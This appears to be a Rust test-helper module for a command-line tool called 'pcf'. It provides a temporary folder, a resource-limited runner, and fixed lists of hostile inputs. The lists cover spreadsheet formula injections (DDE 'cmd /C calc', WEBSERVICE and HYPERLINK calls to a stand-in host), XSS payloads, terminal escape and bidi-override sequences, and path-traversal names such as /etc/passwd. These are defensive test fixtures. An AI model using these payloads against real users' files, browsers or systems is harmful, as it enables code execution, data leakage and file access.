//! What tests of the command share: a folder that is gone when the test is, a run with a limit of time and memory, and
//! texts that have done harm elsewhere.

#![allow(dead_code, reason = "each test uses a part")]
#![allow(clippy::print_stdout, reason = "a test that was skipped says so")]

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

/// A folder that is gone when the test is.
pub(crate) struct Folder(pub(crate) PathBuf);

impl Folder {
    pub(crate) fn new(name: &str) -> Self {
        let path = std::env::temp_dir().join(format!("pcf-{}-{name}", std::process::id()));
        let _ = std::fs::remove_dir_all(&path);
        std::fs::create_dir_all(&path).unwrap();
        Self(path)
    }

    pub(crate) fn file(&self, name: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
        let path = self.0.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, bytes).unwrap();
        path
    }

    pub(crate) fn path(&self, name: &str) -> PathBuf {
        self.0.join(name)
    }

    /// The command, in this folder and in English.
    pub(crate) fn command(&self, arguments: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_pcf"));
        command.args(arguments).current_dir(&self.0).env("LC_ALL", "C").stdin(Stdio::null());
        command
    }

    pub(crate) fn pcf(&self, arguments: &[&str]) -> Output {
        self.command(arguments).output().unwrap()
    }

    /// All files and folders below, by their names.
    pub(crate) fn listing(&self) -> Vec<String> {
        let mut open = vec![self.0.clone()];
        let mut names = Vec::new();
        while let Some(folder) = open.pop() {
            for entry in std::fs::read_dir(folder).unwrap() {
                let path = entry.unwrap().path();
                names.push(path.strip_prefix(&self.0).unwrap().display().to_string());
                if path.is_dir() && !path.is_symlink() {
                    open.push(path);
                }
            }
        }
        names.sort();
        names
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// What a run with limits came to.
pub(crate) struct Run {
    pub(crate) status: Option<i32>,
    pub(crate) stdout: String,
    pub(crate) stderr: String,
    pub(crate) took: Duration,
}

/// Runs a command that has to end within `seconds` of processor time and `mib` of address space; the limits are the
/// system's own, so that what breaks them is killed.
pub(crate) fn limited(command: &mut Command, seconds: u64, mib: u64) -> Run {
    let script = format!("ulimit -t {seconds}; ulimit -v {}; exec \"$0\" \"$@\"", mib * 1024);
    let mut bounded = Command::new("sh");
    bounded.args(["-c", &script]).arg(command.get_program()).args(command.get_args()).stdin(Stdio::null());
    bounded.env("LC_ALL", "C").env_remove("PCF_LANG");
    if let Some(folder) = command.get_current_dir() {
        bounded.current_dir(folder);
    }
    let begin = Instant::now();
    let output = bounded.output().unwrap();
    Run {
        status: output.status.code(),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        took: begin.elapsed(),
    }
}

/// Whether a program is there.
pub(crate) fn has_program(name: &str) -> bool {
    let found = Command::new("sh").args(["-c", &format!("command -v {name}")]).stdout(Stdio::null()).status();
    found.is_ok_and(|status| status.success())
}

/// Says plainly that something was not tested.
pub(crate) fn skipped(what: &str) {
    println!("SKIPPED: {what}");
}

pub(crate) fn exists(path: &Path) -> bool {
    path.symlink_metadata().is_ok()
}

/// Texts that spreadsheets take for formulas.
pub(crate) const FORMULAS: [&str; 12] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")",
    "=WEBSERVICE(\"http://example.invalid/\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
];

/// Texts that a browser takes for markup.
pub(crate) const MARKUP: [&str; 10] = [
    "<script>document.documentElement.id=1</script>",
    "<img src=x onerror=document.documentElement.id=1>",
    "\"><svg onload=document.documentElement.id=1>",
    "'><iframe src=javascript:document.documentElement.id=1>",
    "</title><script>document.documentElement.id=1</script>",
    "</style><script>document.documentElement.id=1</script>",
    "<!--<script>document.documentElement.id=1//-->",
    "]]><script>document.documentElement.id=1</script>",
    "javascript:document.documentElement.id=1",
    "&lt;script&gt;document.documentElement.id=1&lt;/script&gt;",
];

/// Texts that steer a terminal or the direction of reading.
pub(crate) const CONTROLS: [&str; 9] = [
    "\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;http://example.invalid\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{1b}[2J\u{1b}[1;1H",
    "\u{9b}31mred",
    "over\rwritten",
    "back\u{8}\u{8}\u{8}\u{8}space",
    "\u{202e}gnp.exe",
    "zero\u{200b}width",
];

/// Names that lead out of a folder.
pub(crate) const PATHS: [&str; 6] =
    ["../outside", "/etc/passwd", "a/../../outside", "..\\outside", "C:\\outside", "~/outside"];
